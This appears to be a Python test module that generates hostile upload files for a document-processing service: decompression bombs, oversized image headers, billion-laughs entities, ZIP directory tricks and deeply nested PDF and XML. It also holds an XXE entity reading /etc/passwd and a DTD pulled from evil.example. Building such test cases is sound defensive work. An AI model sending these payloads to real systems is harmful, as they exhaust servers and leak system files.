"""Small files that grow beyond reason when they are opened."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.attacks.attack import Attack
from tests.attacks.macros import ACTIVE
from tests.attacks.ooxml_builder import DOCX, XLSX, docx, word_xml, xlsx
from tests.attacks.pdf_builder import pdf, stream

PDF = "application/pdf"
MEGABYTE = 1_000_000
WIDE, HIGH = 60_000, 50_000


def _zeros(megabytes: int, window: int = zlib.MAX_WBITS, byte: bytes = b"\0") -> bytes:
    packer = zlib.compressobj(9, wbits=window)
    return b"".join(packer.compress(byte * MEGABYTE) for _ in range(megabytes)) + packer.flush()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, more: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + more
        + _chunk(b"IDAT", zlib.compress(bytes(100)))
        + _chunk(b"IEND", b"")
    )


def _gif() -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65_000, 65_000, 0x80, 0, 0)
        + bytes(6)
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
        + b"\x02\x02\x4c\x01\x00;"
    )


def _gif_of_frames() -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 15_000, 15_000, 0x80, 0, 0) + bytes(6) + frame * 200 + b";"


def _bmp() -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, WIDE, HIGH, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 100, 0, 0, 54) + header + bytes(100)


def _jpeg() -> bytes:
    frame = struct.pack(">BHHB", 8, 65_000, 65_000, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0"
        + struct.pack(">H", len(frame) + 2)
        + frame
        + b"\xff\xd9"
    )


def _tiff(width: int, height: int, bits: int = 8) -> bytes:
    rows = [
        (256, 4, width),
        (257, 4, height),
        (258, 3, bits),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (277, 3, 1),
        (279, 4, 8),
    ]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in rows)
    return b"II*\0" + struct.pack("<I", 16) + bytes(8) + struct.pack("<H", len(rows)) + entries + bytes(4)


def _webp() -> bytes:
    data = b"\x10\0\0\0" + (65_000 - 1).to_bytes(3, "little") + (65_000 - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _heic() -> bytes:
    size = struct.pack(">I4sIII", 20, b"ispe", 0, WIDE, HIGH)
    properties = struct.pack(">I4s", 16 + len(size), b"iprp") + struct.pack(">I4s", 8 + len(size), b"ipco") + size
    meta = struct.pack(">I4sI", 12 + len(properties), b"meta", 0) + properties
    return struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"heic", 0, b"mif1", b"heic") + meta


def _laughs() -> bytes:
    rows = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
    declared = f'<!DOCTYPE w [<!ENTITY a0 "ha">{rows}]>'
    xml = word_xml().decode().replace("?>", f"?>{declared}", 1).replace("955", "&a9;")
    return docx(parts={"word/document.xml": xml.encode()})


def _external_entity() -> bytes:
    declared = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    xml = word_xml().decode().replace("?>", f"?>{declared}", 1).replace("955", "&a;")
    return docx(parts={"word/document.xml": xml.encode()})


def _entity_in_custom_part() -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
    return docx(parts={"customXml/item1.xml": xml})


def _deep() -> str:
    return "<w:p><w:fldSimple>" * 3_000 + "</w:fldSimple></w:p>" * 3_000


def _member(name: str, content: bytes, size: int, offset: int) -> tuple[bytes, bytes]:
    """A local header with packed content, and its row of the directory."""
    letters = name.encode()
    shape = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(content), size, len(letters), 0)
    local = b"PK\x03\x04" + shape + letters + content
    return local, b"PK\x01\x02\x14\x00" + shape + struct.pack("<HHHII", 0, 0, 0, 0, offset) + letters


def _grown(name: str, megabytes: int) -> bytes:
    """A document with one more part that is much larger than its directory says."""
    base = docx()
    start = base.rindex(b"PK\x05\x06")
    count, size, directory = struct.unpack_from("<HII", base, start + 10)
    local, row = _member(name, _zeros(megabytes, -zlib.MAX_WBITS, b" "), 1_000, directory)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(row), directory + len(local), 0
    )
    return base[:directory] + local + base[directory : directory + size] + row + end


def _overlapping() -> bytes:
    """Two hundred rows of the directory for one and the same content."""
    base = docx()
    start = base.rindex(b"PK\x05\x06")
    count, size, directory = struct.unpack_from("<HII", base, start + 10)
    content = _zeros(5, -zlib.MAX_WBITS)
    local, _ = _member("word/media/a0.bin", content, 5 * MEGABYTE, directory)
    rows = b"".join(
        _member(f"word/media/b{number:03}.bin", content, 5 * MEGABYTE, directory)[1] for number in range(200)
    )
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 200, count + 200, size + len(rows), directory + len(local), 0
    )
    return base[:directory] + local + base[directory : directory + size] + rows + end


def _crowded() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(10_500):
            archive.writestr(zipfile.ZipInfo(f"word/media/a{number}.bin", (2020, 1, 1, 0, 0, 0)), b"")
    return out.getvalue()


def _pdf_layers() -> bytes:
    content = zlib.compress(zlib.compress(_zeros(300), 9), 9)
    return pdf(objects=[stream(content, "/Filter [/FlateDecode /FlateDecode /FlateDecode]")])


def _attack(name: str, file_name: str, declared: str, make: Callable[[], bytes]) -> Attack:
    return Attack(name, "bombs", file_name, declared, make, ACTIVE)


ATTACKS: tuple[Attack, ...] = (
    _attack("png-huge", "anh.png", "image/png", lambda: png(WIDE, HIGH)),
    _attack(
        "png-packed-text", "anh.png", "image/png", lambda: png(640, 480, _chunk(b"zTXt", b"Ghi chu\0\0" + _zeros(80)))
    ),
    _attack("gif-huge", "anh.gif", "image/gif", _gif),
    _attack("gif-of-huge-frames", "anh.gif", "image/gif", _gif_of_frames),
    _attack("bmp-huge", "anh.bmp", "image/bmp", _bmp),
    _attack("jpeg-huge", "anh.jpg", "image/jpeg", _jpeg),
    _attack("tiff-huge", "anh.tif", "image/tiff", lambda: _tiff(WIDE, HIGH)),
    _attack("tiff-huge-in-two-colours", "anh.tif", "image/tiff", lambda: _tiff(WIDE, HIGH, 1)),
    _attack("webp-huge", "anh.webp", "image/webp", _webp),
    _attack("heic-huge", "anh.heic", "image/heic", _heic),
    _attack(
        "docx-huge-picture",
        "cv.docx",
        DOCX,
        lambda: docx("", [("image", "media/a.png", False)], {"word/media/a.png": png(WIDE, HIGH)}),
    ),
    _attack("docx-entities", "cv.docx", DOCX, _laughs),
    _attack("docx-external-entity", "cv.docx", DOCX, _external_entity),
    _attack("docx-doctype-in-custom-part", "cv.docx", DOCX, _entity_in_custom_part),
    _attack("docx-part-larger-than-told", "cv.docx", DOCX, lambda: _grown("word/header9.xml", 90)),
    _attack("docx-overlapping-parts", "cv.docx", DOCX, _overlapping),
    _attack("docx-crowded", "cv.docx", DOCX, _crowded),
    _attack("docx-deep-xml", "cv.docx", DOCX, lambda: docx(_deep())),
    _attack("xlsx-sheet-of-blanks", "b.xlsx", XLSX, lambda: xlsx(" " * (90 * MEGABYTE))),
    _attack("pdf-stream", "cv.pdf", PDF, lambda: pdf(objects=[stream(_zeros(300), "/Filter /FlateDecode")])),
    _attack("pdf-stream-in-layers", "cv.pdf", PDF, _pdf_layers),
    _attack(
        "pdf-stream-in-many-layers",
        "cv.pdf",
        PDF,
        lambda: pdf(objects=[stream(b"x", f"/Filter [{'/ASCIIHexDecode ' * 9}]")]),
    ),
    _attack("pdf-deep-arrays", "cv.pdf", PDF, lambda: pdf(objects=["[" * 20_000 + "]" * 20_000])),
    _attack(
        "pdf-huge-picture",
        "cv.pdf",
        PDF,
        lambda: pdf(
            objects=[
                stream(
                    zlib.compress(bytes(100)),
                    f"/Subtype /Image /Width {WIDE} /Height {HIGH} /BitsPerComponent 8 /Filter /FlateDecode",
                )
            ]
        ),
    ),
    _attack(
        "pdf-huge-jpeg",
        "cv.pdf",
        PDF,
        lambda: pdf(
            objects=[stream(_jpeg(), "/Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /Filter /DCTDecode")]
        ),
    ),
)
